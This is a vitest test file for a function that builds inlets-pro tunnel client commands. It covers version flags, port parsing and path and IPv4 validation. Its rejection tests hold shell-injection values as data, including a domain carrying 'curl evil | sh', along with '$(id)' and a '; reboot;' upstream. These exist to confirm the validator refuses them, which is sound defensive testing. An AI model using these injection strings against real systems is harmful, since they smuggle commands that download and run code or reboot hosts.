import { spawnSync } from 'node:child_process'
import { describe, it, expect } from 'vitest'
import {
  buildClientCommand,
  checkShellPath,
  expandHome,
  isIPv4,
  parsePorts,
  type ClientCommandInput,
} from '../../src/main/tunnel/client-command'
import { generateTunnelToken } from '../../src/main/tunnel/token'
import { KNOWN_INLETS_RELEASES } from '../../src/shared/inlets-versions'
import { appErrorOf } from '../support/app-error'

const token = generateTunnelToken()
const ipv4 = '203.0.113.10'
const tokenFile = '/home/me/.config/Exitdesk/tunnel-tokens/exit-1-abcd1234.token'

const tcp: ClientCommandInput = {
  mode: 'tcp',
  ipv4,
  domains: [],
  auth: { kind: 'file', path: tokenFile },
  serverVersion: '0.11.14',
  clientVersion: '0.11.14',
  upstream: '192.168.1.20',
  ports: [22, 8080],
  licenseFile: '$HOME/.inlets/LICENSE',
}
const https: ClientCommandInput = { ...tcp, mode: 'https', domains: ['tunnel.example.com'], upstream: 'http://127.0.0.1:3000', ports: [] }

/** How bash splits the command into words (with `inlets-pro` replaced by a word printer), with HOME set. */
function bashWords(command: string, home = '/home/me'): string[] {
  expect(command.startsWith('inlets-pro ')).toBe(true)
  const script = `words() { printf '%s\\n' "$@"; }\nwords ${command.slice('inlets-pro '.length)}`
  const result = spawnSync('bash', ['--norc', '-c', script], { encoding: 'utf8', env: { HOME: home, PATH: process.env.PATH } })
  expect(result.status, result.stderr).toBe(0)
  return result.stdout.split('\n').slice(0, -1)
}

describe('buildClientCommand', () => {
  it('TCP: the token from a file, the licence, and the upstream and ports the user chose', () => {
    const { command, autoTlsLegacy } = buildClientCommand(tcp)
    expect(autoTlsLegacy).toBe(false)
    expect(command).toBe(
      `inlets-pro tcp client --url "wss://203.0.113.10:8123" --token-file "${tokenFile}" --license-file "$HOME/.inlets/LICENSE" --upstream "192.168.1.20" --ports 22,8080`,
    )
    expect(command).not.toContain(token)
    expect(bashWords(command)).toEqual([
      'tcp',
      'client',
      '--url',
      'wss://203.0.113.10:8123',
      '--token-file',
      tokenFile,
      '--license-file',
      '/home/me/.inlets/LICENSE', // $HOME expands inside the double quotes
      '--upstream',
      '192.168.1.20',
      '--ports',
      '22,8080',
    ])
  })

  it('puts the token on the command line only when asked to', () => {
    const { command } = buildClientCommand({ ...tcp, auth: { kind: 'inline', token } })
    expect(bashWords(command).slice(4, 6)).toEqual(['--token', token])
    expect(command).not.toContain('--token-file')
  })

  it('TCP: ignores domains', () => {
    expect(buildClientCommand({ ...tcp, domains: ['x.example.com'] }).command).not.toContain('example')
  })

  it('HTTPS, several domains: one --upstream flag per domain to the chosen URL (the comma form is deprecated)', () => {
    const { command } = buildClientCommand({ ...https, domains: ['grafana.example.com', 'OpenFaaS.example.org', 'grafana.example.com'] })
    expect(bashWords(command).slice(8)).toEqual([
      '--upstream',
      'grafana.example.com=http://127.0.0.1:3000',
      '--upstream',
      'openfaas.example.org=http://127.0.0.1:3000',
    ])
    expect(command).not.toContain(',')
    expect(command).not.toContain('--ports')
  })

  it('rewrites a ~/ licence path to $HOME/, which the shell expands inside double quotes', () => {
    const { command } = buildClientCommand({ ...tcp, licenseFile: '~/licences/inlets' })
    expect(command).toContain('--license-file "$HOME/licences/inlets"')
    expect(bashWords(command, '/home/other')).toContain('/home/other/licences/inlets')
  })

  it('is one line', () => {
    for (const input of [tcp, https]) expect(buildClientCommand(input).command).not.toMatch(/[\n]/)
  })

  // inletsctl PR #140: a 0.11.14+ client needs --auto-tls-legacy against an older server; an
  // older client does not know the flag. Every known server release x every client release.
  describe('client and server flags agree for every accepted pair', () => {
    const versions = [...KNOWN_INLETS_RELEASES.map((r) => r.version), '0.11.15', '0.12.0']
    const legacyExpected = (client: string, server: string): boolean => {
      const hardened = (v: string) => v !== '0.11.5' && v !== '0.11.13'
      return hardened(client) && !hardened(server)
    }
    const pairs = versions.flatMap((server) => versions.map((client) => [server, client] as const))
    it.each(pairs)('server %s, client %s', (serverVersion, clientVersion) => {
      for (const input of [tcp, https]) {
        const { command, autoTlsLegacy } = buildClientCommand({ ...input, serverVersion, clientVersion })
        const expected = legacyExpected(clientVersion, serverVersion)
        expect(autoTlsLegacy).toBe(expected)
        expect(bashWords(command).includes('--auto-tls-legacy')).toBe(expected)
      }
    })
  })

  describe('rejects, naming the field', () => {
    it.each(['', '1.2.3', '1.2.3.4.5', '256.1.1.1', '01.2.3.4', '1.2.3.4 ', '1.2.3.4;id', '::1', 'example.com', '1.2.3.-4'])(
      'ip %j',
      (bad) => {
        const error = appErrorOf(() => buildClientCommand({ ...tcp, ipv4: bad }))
        expect(error.info.code).toBe('invalid-input')
        expect(error.info.field).toBe('ipv4')
      },
    )

    it('a malformed inline token, without repeating it', () => {
      const bad = `${token.slice(0, 63)}"`
      const error = appErrorOf(() => buildClientCommand({ ...tcp, auth: { kind: 'inline', token: bad } }))
      expect(error.info.field).toBe('token')
      expect(error.message).not.toContain(bad)
    })

    it.each([
      ['a TCP upstream with a command', { ...tcp, upstream: '127.0.0.1"; reboot; "' }, 'upstream'],
      ['a TCP upstream with a scheme', { ...tcp, upstream: 'http://127.0.0.1' }, 'upstream'],
      ['a TCP upstream with a port', { ...tcp, upstream: '127.0.0.1:22' }, 'upstream'],
      ['an empty TCP upstream', { ...tcp, upstream: '' }, 'upstream'],
      ['an HTTP upstream without a scheme', { ...https, upstream: '127.0.0.1:8080' }, 'upstream'],
      ['an HTTP upstream with a dollar', { ...https, upstream: 'http://$(id):80' }, 'upstream'],
      ['an HTTP upstream on port 0', { ...https, upstream: 'http://127.0.0.1:0' }, 'upstream'],
      ['an HTTP upstream on port 70000', { ...https, upstream: 'http://127.0.0.1:70000' }, 'upstream'],
      ['no TCP ports', { ...tcp, ports: [] }, 'ports'],
      ['port 0', { ...tcp, ports: [0] }, 'ports'],
      ['port 65536', { ...tcp, ports: [65536] }, 'ports'],
      ['a relative licence path', { ...tcp, licenseFile: 'LICENSE' }, 'licenseFile'],
      ['a licence path with a quote', { ...tcp, licenseFile: '/tmp/a"b' }, 'licenseFile'],
      ['a licence path with a variable', { ...tcp, licenseFile: '/tmp/$USER/LICENSE' }, 'licenseFile'],
      ['a licence path with a backtick', { ...tcp, licenseFile: '$HOME/`id`' }, 'licenseFile'],
      ['a licence path with a history bang', { ...tcp, licenseFile: '/tmp/!!' }, 'licenseFile'],
      ['a licence path ending in a backslash', { ...tcp, licenseFile: 'C:\\licences\\' }, 'licenseFile'],
      ['a token file path with a quote', { ...tcp, auth: { kind: 'file' as const, path: '/tmp/x"y' } }, 'tokenFile'],
      ['a refused client version', { ...tcp, clientVersion: '999.999.999' }, 'clientVersion'],
      ['a server version that is not a release', { ...tcp, serverVersion: 'unknown' }, 'serverVersion'],
      ['HTTPS without domains', { ...https, domains: [] }, 'domains'],
      ['a hostile domain', { ...https, domains: ['ok.example.com', 'a.com" && curl evil | sh #'] }, 'domains.1'],
      ['an unknown mode', { ...tcp, mode: 'udp' as 'tcp' }, 'mode'],
    ])('%s', (_name, input, field) => {
      const error = appErrorOf(() => buildClientCommand(input))
      expect(error.info.code).toBe('invalid-input')
      expect(error.info.field).toBe(field)
    })
  })
})

describe('parsePorts', () => {
  it('reads a comma list with spaces and drops repeats', () => {
    expect(parsePorts(' 2222, 8080 ,2222')).toEqual([2222, 8080])
  })
  it.each(['', '22,', 'ssh', '22 80', '1-100', '+22', '0x16', '65536'])('refuses %j, naming the field', (text) => {
    const error = appErrorOf(() => parsePorts(text))
    expect(error.info.field).toBe('ports')
    expect(error.message).toMatch(/^ports must be TCP ports from 1 to 65535/)
  })
})

describe('checkShellPath / expandHome', () => {
  it.each([
    ['/home/me/LICENSE', '/home/me/LICENSE'],
    ['$HOME/.inlets/LICENSE', '$HOME/.inlets/LICENSE'],
    ['~/.inlets/LICENSE', '$HOME/.inlets/LICENSE'],
    ['C:\\Users\\Me Myself\\.inlets\\LICENSE', 'C:\\Users\\Me Myself\\.inlets\\LICENSE'],
  ])('accepts %j as %j', (input, shell) => {
    expect(checkShellPath(input, 'licenseFile')).toBe(shell)
  })
  it('expands $HOME with the given home folder', () => {
    expect(expandHome('$HOME/.inlets/LICENSE', '/home/me/')).toBe('/home/me/.inlets/LICENSE')
    expect(expandHome('/etc/LICENSE', '/home/me')).toBe('/etc/LICENSE')
  })
})

describe('isIPv4', () => {
  it.each(['0.0.0.0', '1.2.3.4', '255.255.255.255', '10.0.0.1'])('accepts %s', (ip) => {
    expect(isIPv4(ip)).toBe(true)
  })
  it.each(['255.255.255.256', '1.2.3', 'a.b.c.d', '1..2.3', '1.2.3.4/32', undefined])('refuses %s', (ip) => {
    expect(isIPv4(ip)).toBe(false)
  })
})
